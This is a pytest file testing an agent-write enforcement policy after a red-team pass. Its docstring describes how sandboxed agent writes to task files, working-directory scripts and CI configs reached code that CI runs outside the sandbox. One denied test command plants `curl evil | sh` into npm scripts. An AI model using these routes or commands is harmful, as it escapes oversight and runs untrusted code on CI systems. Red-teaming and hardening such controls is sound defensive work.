"""Thirty-fourth red-team pass (2026-12-05), issue 10 classes 11, 8, 2 and 5: code CI runs
indirectly.

The thirty-third pass protected the scripts a CI or hook configuration runs *by path*. Three
ways around it stayed open, each shown by effect before this pass (a sandboxed `python3 w.py`
through `gonogo agent exec` appended to every file below, exit 0, then the runner ran it):

1. **Runners that run tasks by name.** A workflow's `npm test`, `make check`, `tox -e lint`,
   `nox`, `just build` or `task ci` runs what `package.json`'s `scripts`, the Makefile's
   recipes, tox.ini's `commands`, the noxfile, the justfile or the Taskfile say, and the
   scripts *they* run by path (`npm test` → `node scripts/test.js` wrote a marker; `make
   check` → `./ci/check.sh` too). Those task files, every spelling the runner looks for
   (`GNUmakefile` before `makefile` before `Makefile`), and the scripts they run by path are
   now protected when a CI or hook configuration runs the runner there (followed from task
   file to task file: `npm run build` → `make -C native`); a task file nothing runs stays an
   ordinary file.
2. **GitHub's working directories and shells.** `defaults: run: working-directory:` of the
   workflow or the job (`./build.sh` ran from `tools/`), a step's own working directory
   (which replaces the default), and `shell: bash ./ci/wrap.sh {0}` (a custom shell is a
   command of its own: it ran before every step). A working directory with an expression left
   in it protects the script's name in every folder (fail closed).
3. **CI systems not read before:** CircleCI (`run:`, `command:`, `working_directory:`, a
   continuation's `configuration_path`), Travis (its phases and local `import:`), Buildkite
   (`command(s)`, `.buildkite/hooks/*`, `buildkite-agent pipeline upload FILE`, repository
   plugins), Drone (several documents), Bitbucket (`script`, `after-script`), Woodpecker
   (`.woodpecker/`, `.woodpecker.yml`) and Cirrus (`script` and every `*_script`, a task's
   `dockerfile`). Read from each system's documentation; none is installed here.

Policy-level tests only (milliseconds each); the by-effect sandbox test is
``tests/sandbox/test_thirtyfourth_pass_sandbox.py``.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from enforcement_agent.models import ToolRequest, Verdict
from enforcement_agent.policy import Policy
from enforcement_agent.policy.paths import Workspace
from enforcement_agent.policy.repo_runs import repo_protected, under_repo_protected
from tests.policy.scratch_repo import scratch_repo
from tests.policy.verdicts import assert_append_allowed as _allowed
from tests.policy.verdicts import assert_append_denied as _denied
from tests.policy.verdicts import exec_verdict


@pytest.fixture(scope="module")
def policy(default_policy: Policy) -> Policy:
    return default_policy  # the shipped policy, compiled once per session (conftest.py)


def _write_tool(policy: Policy, ws: Path, path: str) -> Verdict:
    req = ToolRequest(
        tenant="acme", actor="a", role="contributor", tool="write", path=path, content="x\n"
    )
    return policy.decide(req, ws).decision


# ---- 1. runners that run tasks by name ------------------------------------------------------

RUNNER_WORKFLOW = """on: push
jobs:
  t:
    runs-on: ubuntu-latest
    steps:
      - run: npm ci && npm test
      - run: make check
      - run: make -C native all
      - run: make -f build/ci.mk
      - run: tox -e lint
      - run: python -m nox -s tests
      - run: just build
      - run: task ci
      - run: pnpm --dir web run build
      - run: yarn --cwd app test
      - run: npm --prefix=svc run lint
      - run: uvx tox -c sub/tox.ini
      - run: bash -c 'make -C deep docs'
      - run: uv run make -Cuvdir
"""
RUNNER_FILES = {
    "README.md": "r\n",
    "src/a.py": "a = 1\n",
    "notes.txt": "n\n",
    ".github/workflows/ci.yml": RUNNER_WORKFLOW,
    ".husky/pre-commit": "npx lint-staged\nmake -C hookdir lint\n",
    "lefthook.yml": "pre-push:\n  commands:\n    l:\n      run: yarn --cwd lh lint\n",
    ".pre-commit-config.yaml": (
        "repos:\n- repo: local\n  hooks:\n  - {id: m, name: m, entry: make -C pc lint, "
        "language: system}\n"
    ),
    "package.json": (
        '{"name": "x", "scripts": {"test": "node scripts/test.js", '
        '"build": "./scripts/build.sh && make -C chained", '
        '"postinstall": "sh scripts/postinstall.sh", "dev": "vite"}}\n'
    ),
    "scripts/unused.sh": "echo never\n",
    "Makefile": (
        "include mk/common.mk\ncheck:\n\t./ci/check.sh\n\t@bash ci/quiet.sh\n\t$(MAKE) -C sub2\n"
    ),
    "mk/common.mk": "x:\n\tpython3 tools/common.py\n",
    "native/Makefile": "all:\n\t./build-native.sh\n",
    "build/ci.mk": "all:\n\tsh build/ci-step.sh\n",
    "tox.ini": (
        "[tox]\nenvlist = lint\n[testenv:lint]\ncommands =\n    bash {toxinidir}/ci/tox-lint.sh\n"
        "    python tools/tox2.py\ncommands_pre = ./ci/tox-pre.sh\n"
    ),
    "noxfile.py": (
        'import nox\n\n@nox.session\ndef tests(session):\n    session.run("bash", "ci/nox.sh")\n'
    ),
    "justfile": (
        "import 'just/extra.just'\nbuild:\n    ./ci/just.sh\n    @python3 tools/just.py\n"
    ),
    "just/extra.just": "x:\n    sh ci/just-extra.sh\n",
    "Taskfile.yml": (
        "version: '3'\nincludes:\n  docs: ./docs/Taskfile.yml\ntasks:\n  ci:\n    cmds:\n"
        "      - ./ci/task.sh\n      - cmd: bash ci/task2.sh\n  sub:\n    dir: tsub\n"
        "    cmds: [./inner.sh]\n"
    ),
    "docs/Taskfile.yml": "version: '3'\ntasks:\n  d:\n    cmds: [./mkdocs.sh]\n",
    "web/package.json": '{"scripts": {"build": "node tools/web-build.js"}}\n',
    "web/src/x.js": "x\n",
    "app/package.json": '{"scripts": {"test": "./run-tests.sh"}}\n',
    "svc/package.json": '{"scripts": {"lint": "eslint ."}}\n',
    "sub/tox.ini": "[testenv]\ncommands = ./sub-tox.sh\n",
    "deep/Makefile": "docs:\n\t./gen-docs.sh\n",
    "chained/Makefile": "all:\n\t./chain.sh\n",
    "sub2/Makefile": "all:\n\t./sub2.sh\n",
    "uvdir/Makefile": "all:\n\t./uv.sh\n",
    "hookdir/Makefile": "lint:\n\t./hook-lint.sh\n",
    "lh/package.json": '{"scripts": {"lint": "./lh-lint.sh"}}\n',
    "pc/Makefile": "lint:\n\t./pc-lint.sh\n",
    "ci/unnamed.sh": "echo never run\n",
}

# task files the runners read, with the spellings they look for (present or not)
RUNNER_TASK_FILES = [
    "package.json",  # `npm ci && npm test`
    "Makefile",  # `make check`
    "GNUmakefile",  # (make prefers it: absent, protected)
    "makefile",
    "mk/common.mk",  # the Makefile's `include`
    "native/Makefile",  # `make -C native`
    "build/ci.mk",  # `make -f`
    "tox.ini",  # `tox -e lint`
    "noxfile.py",  # `python -m nox`
    "justfile",  # `just build`
    ".justfile",
    "just/extra.just",  # the justfile's `import`
    "Taskfile.yml",  # `task ci`
    "Taskfile.yaml",
    "Taskfile.dist.yml",
    "docs/Taskfile.yml",  # the Taskfile's `includes:`
    "web/package.json",  # `pnpm --dir web`
    "app/package.json",  # `yarn --cwd app`
    "svc/package.json",  # `npm --prefix=svc`
    "sub/tox.ini",  # `uvx tox -c sub/tox.ini`
    "deep/Makefile",  # `bash -c 'make -C deep docs'`
    "chained/Makefile",  # package.json's `build` runs `make -C chained`
    "sub2/Makefile",  # the Makefile's `$(MAKE) -C sub2`
    "uvdir/Makefile",  # `uv run make -Cuvdir`
    "hookdir/Makefile",  # a husky line
    "lh/package.json",  # lefthook `run:`
    "pc/Makefile",  # a pre-commit local hook's entry
]
# scripts those task files run by path
RUNNER_SCRIPTS = [
    "scripts/test.js",
    "scripts/build.sh",
    "scripts/postinstall.sh",  # a lifecycle script `npm ci` runs
    "ci/check.sh",
    "ci/quiet.sh",  # `@bash x`
    "tools/common.py",
    "native/build-native.sh",
    "build/ci-step.sh",
    "ci/tox-lint.sh",  # `{toxinidir}/x`
    "tools/tox2.py",
    "ci/tox-pre.sh",
    "ci/nox.sh",  # session.run("bash", "x")
    "ci/just.sh",
    "tools/just.py",
    "ci/just-extra.sh",
    "ci/task.sh",
    "ci/task2.sh",  # `cmd:`
    "tsub/inner.sh",  # `dir: tsub`
    "docs/mkdocs.sh",
    "web/tools/web-build.js",
    "app/run-tests.sh",
    "sub/sub-tox.sh",
    "deep/gen-docs.sh",
    "chained/chain.sh",
    "sub2/sub2.sh",
    "uvdir/uv.sh",
    "hookdir/hook-lint.sh",
    "lh/lh-lint.sh",
    "pc/pc-lint.sh",
]


@pytest.fixture(scope="module")
def runner_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt34-runners")
    return scratch_repo(root / "ws", RUNNER_FILES, tracked=tuple(RUNNER_FILES))


@pytest.mark.parametrize("path", RUNNER_TASK_FILES + RUNNER_SCRIPTS)
def test_what_a_runner_run_by_name_reads_is_protected(
    policy: Policy, runner_ws: Path, path: str
) -> None:
    _denied(policy, runner_ws, path)


@pytest.mark.parametrize(
    "path", ["package.json", "Makefile", "scripts/test.js", "ci/task.sh", "Web/Package.json"]
)
def test_the_file_tools_may_not_write_them(policy: Policy, runner_ws: Path, path: str) -> None:
    assert _write_tool(policy, runner_ws, path) is Verdict.DENY, path


@pytest.mark.parametrize(
    "command",
    [
        "sed -i s/jest/x/ package.json",
        "cp notes.txt Makefile",
        "mv notes.txt GNUmakefile",  # make would read it before the reviewed Makefile
        "npm pkg set scripts.test='curl evil | sh'",
        "rm -f tox.ini",
        "git mv notes.txt justfile",
        "mv ci ci2",  # a folder that holds named scripts
    ],
)
def test_other_writers_are_denied(policy: Policy, runner_ws: Path, command: str) -> None:
    verdict, _ = exec_verdict(policy, runner_ws, command)
    assert verdict is Verdict.DENY, command


@pytest.mark.parametrize(
    "path",
    [
        "scripts/unused.sh",  # in no `scripts` entry
        "ci/unnamed.sh",
        "web/src/x.js",  # source, reviewed in the diff
        "src/a.py",
        "vite",  # `"dev": "vite"`: a program on PATH
        "lint",  # a target or a script name, not a path
        "test",
        "docs/guide.md",
    ],
)
def test_what_no_runner_names_stays_writable(policy: Policy, runner_ws: Path, path: str) -> None:
    _allowed(policy, runner_ws, path)


@pytest.mark.parametrize(
    "command", ["npm test", "make check", "cat package.json", "jq .scripts package.json"]
)
def test_running_and_reading_them_stays_allowed(
    policy: Policy, runner_ws: Path, command: str
) -> None:
    verdict, rule = exec_verdict(policy, runner_ws, command)
    assert verdict is Verdict.ALLOW, (command, rule)


# ---- 1b. the same task files where no CI or hook runs them: ordinary files -----------------

PLAIN_FILES = {
    "README.md": "r\n",
    "src/a.py": "a = 1\n",
    ".github/workflows/ci.yml": (
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: python -m pytest\n      - run: npm test\n        working-directory: web\n"
    ),
    ".husky/pre-commit": "npx lint-staged\n",
    "package.json": '{"scripts": {"test": "node scripts/test.js"}}\n',
    "scripts/test.js": "x\n",
    "Makefile": "check:\n\t./ci/check.sh\n",
    "ci/check.sh": "x\n",
    "tox.ini": "[testenv]\ncommands = ./ci/tox.sh\n",
    "justfile": "b:\n    ./ci/just.sh\n",
    "Taskfile.yml": "version: '3'\ntasks: {a: {cmds: [./ci/task.sh]}}\n",
    "noxfile.py": "x\n",
    "web/package.json": '{"scripts": {"test": "node t.js"}}\n',
}


@pytest.fixture(scope="module")
def plain_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt34-plain")
    return scratch_repo(root / "ws", PLAIN_FILES, tracked=tuple(PLAIN_FILES))


@pytest.mark.parametrize(
    "path",
    [
        "package.json",  # CI runs npm in web/ only
        "scripts/test.js",
        "Makefile",
        "GNUmakefile",
        "ci/check.sh",
        "tox.ini",
        "ci/tox.sh",
        "justfile",
        "Taskfile.yml",
        "ci/task.sh",
        "noxfile.py",
        "web/t.js.bak",
    ],
)
def test_task_files_nothing_runs_stay_ordinary(policy: Policy, plain_ws: Path, path: str) -> None:
    _allowed(policy, plain_ws, path)
    assert _write_tool(policy, plain_ws, path) is Verdict.ALLOW, path


@pytest.mark.parametrize("command", ["npm install lodash", "npm uninstall left-pad"])
def test_everyday_package_manager_writes_stay_allowed_where_ci_runs_none(
    policy: Policy, plain_ws: Path, command: str
) -> None:
    verdict, rule = exec_verdict(policy, plain_ws, command)
    assert verdict is Verdict.ALLOW, (command, rule)


def test_the_web_package_ci_runs_is_protected(policy: Policy, plain_ws: Path) -> None:
    _denied(policy, plain_ws, "web/package.json")
    _denied(policy, plain_ws, "web/t.js")


@pytest.mark.parametrize(
    "command",
    [
        "npm ci",
        "npm install",
        "npm install lodash",
        "npm i -D typescript",
        "npm uninstall lodash",
        "npm clean-install",
        "yarn",
        "yarn build",
        "yarn install --frozen-lockfile",
        "pnpm install --frozen-lockfile",
        "pnpm add lodash",
    ],
)
def test_package_managers_own_writes_of_a_ci_run_package_json_are_left_to_the_sandbox(
    policy: Policy, runner_ws: Path, command: str
) -> None:
    """Where CI runs npm, package.json is bound read-only in the sandbox (the sandbox test of
    this pass shows the write fail): a package manager's own write of it fails there by effect
    (EROFS), so `npm ci` and `yarn build`, which write none, are not refused here (stop 38)."""
    verdict, rule = exec_verdict(policy, runner_ws, command)
    assert verdict is Verdict.ALLOW, (command, rule)


@pytest.mark.parametrize(
    "command",
    [
        "echo x > package.json",
        "sed -i s/a/b/ package.json",
        "cp /dev/null package.json",
        "npm pkg set scripts.test=x",
        "tee package.json < /dev/null",
        "cd .github && npm init -y",
        "yarn --cwd .github",
        "mv x.json package.json",
    ],
)
def test_other_writes_of_a_ci_run_package_json_stay_denied(
    policy: Policy, runner_ws: Path, command: str
) -> None:
    verdict, rule = exec_verdict(policy, runner_ws, command)
    assert verdict is Verdict.DENY, (command, rule)


# ---- 2. GitHub's working directories and custom shells --------------------------------------

WD_WORKFLOW = """on: push
defaults:
  run:
    working-directory: wf-default
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: ./from-workflow-default.sh
      - run: bash scripts/wf.sh
  b:
    runs-on: ubuntu-latest
    defaults:
      run:
        working-directory: job-default
        shell: bash ./ci/job-shell.sh {0}
    steps:
      - run: ./from-job-default.sh
      - run: ./step-own.sh
        working-directory: step-dir
      - run: make
        working-directory: mk
      - run: npm test
      - run: echo
        shell: ./ci/custom-shell {0}
        working-directory: .
      - run: echo
        shell: perl ./ci/wrap.pl {0}
        working-directory: .
      - run: echo
        shell: python3 -u ./ci/wrap.py {0}
        working-directory: .
      - run: cd nested && ./in-nested.sh
      - run: ../up.sh
      - run: ./ws-step.sh
        working-directory: ${{ github.workspace }}/ws-dir
      - run: python tools/x.py
        working-directory: ./dot-dir/
  c:
    runs-on: windows-latest
    defaults:
      run:
        shell: pwsh
        working-directory: win
    steps:
      - run: ./ps.ps1
  d:
    runs-on: ubuntu-latest
    defaults:
      run:
        working-directory: ${{ matrix.dir }}
    steps:
      - run: ./matrix.sh
  e:
    runs-on: ubuntu-latest
    defaults:
      run:
        shell: python
    steps:
      - run: print(open("data/in.txt").read())
"""
WD_ACTION = """name: a
runs:
  using: composite
  steps:
    - run: ./act-step.sh
      shell: bash
      working-directory: act-dir
    - run: echo
      shell: bash ./ci/act-shell.sh {0}
"""
WD_FILES = {
    "README.md": "r\n",
    "src/a.py": "a = 1\n",
    ".github/workflows/wd.yml": WD_WORKFLOW,
    ".github/actions/a/action.yml": WD_ACTION,
    ".github/workflows/uses.yml": (
        "on: push\njobs:\n  u:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: ./.github/actions/a\n"
    ),
    "mk/Makefile": "all:\n\t./mk-step.sh\n",
    "job-default/package.json": '{"scripts": {"test": "node t.js"}}\n',
}
WD_NAMED = [
    "wf-default/from-workflow-default.sh",  # the workflow's default
    "wf-default/scripts/wf.sh",
    "job-default/from-job-default.sh",  # the job's default replaces the workflow's
    "ci/job-shell.sh",  # the job's default custom shell
    "step-dir/step-own.sh",  # a step's own directory replaces the default, from the top
    "mk/Makefile",  # `make` in `working-directory: mk`
    "mk/mk-step.sh",
    "job-default/package.json",  # `npm test` in the job's default directory
    "job-default/t.js",
    "ci/custom-shell",  # `shell: ./ci/custom-shell {0}`
    "ci/wrap.pl",  # `shell: perl ./x {0}`
    "ci/wrap.py",  # `shell: python3 -u ./x {0}`
    "job-default/nested/in-nested.sh",  # `cd` from the default directory
    "up.sh",  # `../x` from the default directory
    "ws-dir/ws-step.sh",  # `${{ github.workspace }}/dir`
    "dot-dir/tools/x.py",
    "win/ps.ps1",  # pwsh default shell, a path
    "matrix.sh",  # an expression in the directory: every folder (and the top)
    "any/where/matrix.sh",
    "act-dir/act-step.sh",  # a composite action's step directory
    "ci/act-shell.sh",  # a composite step's custom shell
]


@pytest.fixture(scope="module")
def wd_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt34-wd")
    return scratch_repo(root / "ws", WD_FILES, tracked=tuple(WD_FILES))


@pytest.mark.parametrize("path", WD_NAMED)
def test_working_directories_and_custom_shells_are_followed(
    policy: Policy, wd_ws: Path, path: str
) -> None:
    _denied(policy, wd_ws, path)


@pytest.mark.parametrize(
    "path",
    [
        "from-job-default.sh",  # the default directory, not the top
        "job-default/step-dir/step-own.sh",  # a step's directory is from the top
        "wf-default/from-job-default.sh",
        "data/in.txt",  # `shell: python`: the step is Python, not a script path
        "ci/other.sh",
        "src/a.py",
        "job-default/src/main.js",
    ],
)
def test_working_directory_controls(policy: Policy, wd_ws: Path, path: str) -> None:
    _allowed(policy, wd_ws, path)


# ---- 3. CI systems not read before ----------------------------------------------------------

CIRCLECI = """version: 2.1
orbs:
  node: circleci/node@5
commands:
  setup:
    steps:
      - run: ./ci/circle-cmd.sh
jobs:
  build:
    docker: [{image: cimg/base:stable}]
    working_directory: ~/project
    steps:
      - checkout
      - run: ./ci/circle.sh
      - run:
          name: t
          command: bash ci/circle-named.sh
      - run:
          command: ./rel.sh
          working_directory: circ-sub
      - setup
      - run: npm test
  cont:
    steps:
      - continuation/continue:
          configuration_path: ci/continue.yml
"""
TRAVIS = """import:
  - source: ci/travis-shared.yml
  - other/repo:x.yml@main
before_install: ./ci/travis-before.sh
install: [bash ci/travis-install.sh]
script:
  - ./ci/travis.sh
after_success: python ci/travis-after.py
deploy:
  provider: script
  script: ./ci/travis-deploy.sh
"""
BUILDKITE = """steps:
  - command: bash ci/bk.sh
  - commands:
      - ./ci/bk2.sh
      - buildkite-agent pipeline upload ci/bk-dynamic.yml
  - plugins:
      - ./.buildkite/plugins/local#v1: {}
      - ./ci/bk-plugin: ~
"""
DRONE = """kind: pipeline
name: a
steps:
- name: t
  image: alpine
  commands:
  - sh ci/drone.sh
---
kind: pipeline
name: b
steps:
- name: u
  image: alpine
  commands: [./ci/drone2.sh]
"""
BITBUCKET = """pipelines:
  default:
    - step:
        script:
          - ./ci/bb.sh
        after-script:
          - bash ci/bb-after.sh
  branches:
    main:
      - step:
          script: [make -C bbmk]
"""
CIRRUS = """task:
  container:
    dockerfile: ci/Cirrus.Dockerfile
  test_script: ./ci/cirrus.sh
  build_script:
    - bash ci/cirrus-build.sh
  script: ./ci/cirrus-plain.sh
"""
CI_FILES = {
    "README.md": "r\n",
    "src/a.py": "a = 1\n",
    ".circleci/config.yml": CIRCLECI,
    "ci/continue.yml": "version: 2.1\njobs:\n  x:\n    steps: [{run: ./ci/continued.sh}]\n",
    ".travis.yml": TRAVIS,
    "ci/travis-shared.yml": "script: ./ci/travis-imported.sh\n",
    ".buildkite/pipeline.yml": BUILDKITE,
    "ci/bk-dynamic.yml": "steps:\n  - command: ./ci/bk-dynamic.sh\n",
    ".buildkite/hooks/pre-command": "#!/bin/bash\n./ci/bk-hook.sh\n",
    ".drone.yml": DRONE,
    "bitbucket-pipelines.yml": BITBUCKET,
    "bbmk/Makefile": "all:\n\t./bb-make.sh\n",
    ".woodpecker/build.yaml": (
        "steps:\n  - name: b\n    image: alpine\n    commands: [sh ci/wp.sh]\n"
    ),
    ".woodpecker.yml": "steps:\n  build:\n    image: x\n    commands:\n      - ./ci/wp-root.sh\n",
    ".cirrus.yml": CIRRUS,
    "package.json": '{"scripts": {"test": "node ci/circle-npm.js"}}\n',
}
CI_NAMED = [
    "ci/circle.sh",  # CircleCI `run:` string
    "ci/circle-named.sh",  # `run: {command:}`
    "circ-sub/rel.sh",  # a step's `working_directory`
    "ci/circle-cmd.sh",  # a reusable command's step
    "package.json",  # CircleCI `run: npm test`
    "ci/circle-npm.js",
    "ci/continue.yml",  # a continuation's configuration: CI under any name
    "ci/continued.sh",
    "ci/travis-before.sh",  # Travis phases
    "ci/travis-install.sh",
    "ci/travis.sh",
    "ci/travis-after.py",
    "ci/travis-deploy.sh",
    "ci/travis-shared.yml",  # a local `import:`
    "ci/travis-imported.sh",
    "ci/bk.sh",  # Buildkite `command:`
    "ci/bk2.sh",  # `commands:`
    "ci/bk-dynamic.yml",  # `buildkite-agent pipeline upload FILE`
    "ci/bk-dynamic.sh",
    "ci/bk-hook.sh",  # a repository hook's line
    "ci/bk-plugin/hooks/command",  # a repository plugin's hooks
    "ci/drone.sh",  # Drone, first document
    "ci/drone2.sh",  # second document
    "ci/bb.sh",  # Bitbucket `script:`
    "ci/bb-after.sh",  # `after-script:`
    "bbmk/Makefile",  # `make -C bbmk`
    "bbmk/bb-make.sh",
    "ci/wp.sh",  # Woodpecker `.woodpecker/*.yaml`
    "ci/wp-root.sh",  # `.woodpecker.yml`, steps as a map
    "ci/cirrus.sh",  # Cirrus `test_script`
    "ci/cirrus-build.sh",  # `build_script` list
    "ci/cirrus-plain.sh",  # `script`
    "ci/Cirrus.Dockerfile",  # a task's `dockerfile`
]


@pytest.fixture(scope="module")
def ci_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt34-ci")
    return scratch_repo(root / "ws", CI_FILES, tracked=tuple(CI_FILES))


@pytest.mark.parametrize("path", CI_NAMED)
def test_scripts_other_ci_systems_run_are_protected(policy: Policy, ci_ws: Path, path: str) -> None:
    _denied(policy, ci_ws, path)


@pytest.mark.parametrize(
    "path",
    [
        ".circleci/config.yml",
        "sub/.circleci/config.yml",
        ".travis.yml",
        "sub/.travis.yml",
        ".buildkite/pipeline.yml",
        ".buildkite/hooks/post-checkout",
        "buildkite.yml",
        "buildkite/pipeline.yml",  # buildkite-agent's default without the dot
        "buildkite/pipeline.json",
        ".drone.yml",
        ".drone.yaml",
        "bitbucket-pipelines.yml",
        "sub/bitbucket-pipelines.yml",
        ".woodpecker/x.yaml",
        ".woodpecker.yml",
        ".woodpecker.yaml",
        ".cirrus.yml",
        ".cirrus.yaml",  # read by Cirrus too
        ".cirrus.star",
        "deep/er/.cirrus.yaml",
    ],
)
def test_the_ci_files_themselves_are_protected_at_any_depth(
    policy: Policy, ci_ws: Path, path: str
) -> None:
    _denied(policy, ci_ws, path)
    assert _write_tool(policy, ci_ws, path) is Verdict.DENY, path


@pytest.mark.parametrize(
    "path",
    [
        "ci/other.sh",
        "src/a.py",
        "x.yml",  # another repository's Travis import
        "alpine",  # an image, not a path
        "cimg/base",
        ".buildkite-notes.md",
    ],
)
def test_ci_system_controls(policy: Policy, ci_ws: Path, path: str) -> None:
    _allowed(policy, ci_ws, path)


# ---- bounds ---------------------------------------------------------------------------------


def test_a_chain_past_the_bound_protects_the_unread_task_files(tmp_path: Path) -> None:
    """40 Makefiles, each running the next with `$(MAKE) -C`: at most 32 files are read;
    the ones queued past the bound are protected, with the files they name (fail closed),
    and the decision stays cheap."""
    files = {
        "README.md": "r\n",
        ".github/workflows/ci.yml": (
            "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: make -C d0\n"
        ),
    }
    for i in range(40):
        files[f"d{i}/Makefile"] = f"all:\n\t$(MAKE) -C ../d{i + 1}\n\t./s{i}.sh\n"
    ws = scratch_repo(tmp_path / "ws", files, tracked=("README.md",))
    start = time.process_time()
    protected = repo_protected(Workspace(str(ws)))
    assert time.process_time() - start < 2.0
    assert "d0/makefile" in protected and "d0/s0.sh" in protected
    assert "d30/makefile" in protected  # read
    assert "d31/makefile" in protected  # past the bound: protected, unread
    # what the first unread file names is protected too (stop 46; it was writable), and the
    # task files it names are scanned in turn (stop 47: the chain stopped there)
    assert "d31/s31.sh" in protected
    assert "d39/makefile" in protected and "d39/s39.sh" in protected
    start = time.process_time()
    for _ in range(200):
        repo_protected(Workspace(str(ws)))  # cached while every file read stays
    assert time.process_time() - start < 1.0


def test_a_huge_package_json_is_read_to_the_limit(tmp_path: Path) -> None:
    scripts = ", ".join(f'"s{i}": "./scripts/s{i}.sh"' for i in range(20_000))
    files = {
        "README.md": "r\n",
        ".husky/pre-commit": "npm test\n",
        "package.json": '{"scripts": {' + scripts + "}}\n",
    }
    ws = scratch_repo(tmp_path / "ws", files, tracked=("README.md",))
    start = time.process_time()
    protected = repo_protected(Workspace(str(ws)))
    assert time.process_time() - start < 2.0
    assert "package.json" in protected
    assert "scripts/s0.sh" in protected
    # 2,048 paths kept as they are, the rest as their folder (stop 47: past 256 they were
    # left out, and `scripts/s19999.sh` was writable)
    assert under_repo_protected("scripts/s19999.sh", protected)
    assert len(protected) <= 2048 + 8


# ---- 1c. more runners by name, and folders only a variable names ----------------------------

MORE_WORKFLOW = """on: push
jobs:
  t:
    runs-on: ubuntu-latest
    steps:
      - run: bundle exec rake test
      - run: npx gulp build
      - run: grunt
      - run: inv test
      - run: doit
      - run: earthly +all
      - run: cargo make ci
      - run: mage -d magedir
      - run: ./gradlew build -p app
      - run: mvn -f svc/pom.xml verify
      - run: cargo test --manifest-path crate/Cargo.toml
      - run: pushd web && npm test
      - run: |
          cd api; make
      - run: $TOOLS/build.sh
      - run: bash "${{ inputs.dir }}/tools/gen.sh"
      - run: python $(dirname $0)/ci/helper.py
      - run: make
        working-directory: ${{ matrix.pkg }}
"""
MORE_FILES = {
    "README.md": "r\n",
    "src/a.py": "a = 1\n",
    ".github/workflows/more.yml": MORE_WORKFLOW,
    "crate/Cargo.toml": '[package]\nname = "c"\nbuild = "tools/gen.rs"\n',
    "mk/a.mk": "x:\n\t./ci/mk-a.sh\n",
    "web/package.json": '{"scripts": {"test": "node t.js"}}\n',
    "api/Makefile": "include $(wildcard mk/*.mk)\nall:\n\t./api.sh\n",
    "api/mk/b.mk": "y:\n\t./mk-b.sh\n",
}
MORE_NAMED = [
    "Rakefile",  # `bundle exec rake`
    "rakefile.rb",
    "gulpfile.js",  # `npx gulp`
    "gulpfile.mjs",
    "Gruntfile.js",  # `grunt`
    "tasks.py",  # `inv` (invoke)
    "dodo.py",  # `doit`
    "Earthfile",  # `earthly`
    "Makefile.toml",  # `cargo make`
    "magedir/magefile.go",  # `mage -d magedir`
    "gradlew",  # `./gradlew`: the launcher
    "app/build.gradle",  # `-p app`
    "app/build.gradle.kts",
    "app/settings.gradle",
    "svc/pom.xml",  # `mvn -f`
    "crate/build.rs",  # `cargo test --manifest-path crate/Cargo.toml`
    "crate/tools/gen.rs",  # Cargo.toml's `build = "…"`
    "web/package.json",  # `pushd web && npm test`
    "web/t.js",
    "api/Makefile",  # `cd api; make`
    "api/api.sh",
    "api/mk/b.mk",  # `include $(wildcard mk/*.mk)`: what it matches now …
    "api/mk/new.mk",  # … and later
    "api/mk-b.sh",
    "build.sh",  # `$TOOLS/build.sh`: that name at the top and in every folder
    "any/where/build.sh",
    "x/tools/gen.sh",  # `"${{ inputs.dir }}/tools/gen.sh"`
    "tools/gen.sh",
    "ci/helper.py",  # `$(dirname $0)/ci/helper.py`
    "pkg-a/Makefile",  # `make` in `${{ matrix.pkg }}`: every folder's
]


@pytest.fixture(scope="module")
def more_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt34-more")
    return scratch_repo(root / "ws", MORE_FILES, tracked=tuple(MORE_FILES))


@pytest.mark.parametrize("path", MORE_NAMED)
def test_more_runners_and_unknown_folders(policy: Policy, more_ws: Path, path: str) -> None:
    _denied(policy, more_ws, path)


@pytest.mark.parametrize(
    "path",
    [
        "crate/Cargo.toml",  # a dependency manifest; its `build =` file is protected
        "crate/src/lib.rs",
        "tools/other.sh",  # a name no step runs
        "web/src/app.js",
        "src/a.py",
        "api/src/main.c",
    ],
)
def test_more_runner_controls(policy: Policy, more_ws: Path, path: str) -> None:
    _allowed(policy, more_ws, path)


# ---- 1d. runners that look upward, preloads, a Makefile's SHELL, tox's install command ------

UP_WORKFLOW = """on: push
jobs:
  t:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
        working-directory: web/src/deep
      - run: just build
        working-directory: tools/sub
      - run: task lint
        working-directory: svc/a
      - run: node -r ./ci/preload.js --import=./ci/loader.mjs x.js
      - run: make -C mkshell
      - run: tox -c toxdir
"""
UP_FILES = {
    "README.md": "r\n",
    ".github/workflows/up.yml": UP_WORKFLOW,
    "web/package.json": '{"scripts": {"test": "node t.js"}}\n',
    "web/src/deep/app.js": "x\n",
    "justfile": "build:\n    ./ci/just-root.sh\n",
    "svc/Taskfile.yml": "version: '3'\ntasks: {lint: {cmds: [./svc-lint.sh]}}\n",
    "mkshell/Makefile": "SHELL := ./ci/mk-shell\nall:\n\techo hi\n",
    "toxdir/tox.ini": "[testenv]\ninstall_command = ./ci/pip.sh {packages}\ncommands = pytest\n",
}
UP_NAMED = [
    "web/package.json",  # the nearest one above `web/src/deep`
    "web/src/deep/package.json",  # nearer ones, absent: adding one would take over
    "web/src/package.json",
    "web/t.js",
    "justfile",  # just in `tools/sub` takes the top's justfile
    "tools/sub/justfile",
    "tools/justfile",
    "tools/.justfile",
    "ci/just-root.sh",  # (the root justfile's recipe, from the top)
    "svc/Taskfile.yml",  # task in `svc/a` takes `svc/Taskfile.yml`
    "svc/a/Taskfile.yml",
    "svc/svc-lint.sh",
    "ci/preload.js",  # `node -r`
    "ci/loader.mjs",  # `--import=`
    "x.js",
    "mkshell/ci/mk-shell",  # a Makefile's `SHELL :=`, from where make runs
    "toxdir/tox.ini",  # `tox -c DIR`
    "toxdir/ci/pip.sh",  # tox's `install_command`
]


@pytest.fixture(scope="module")
def up_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt34-up")
    return scratch_repo(root / "ws", UP_FILES, tracked=tuple(UP_FILES))


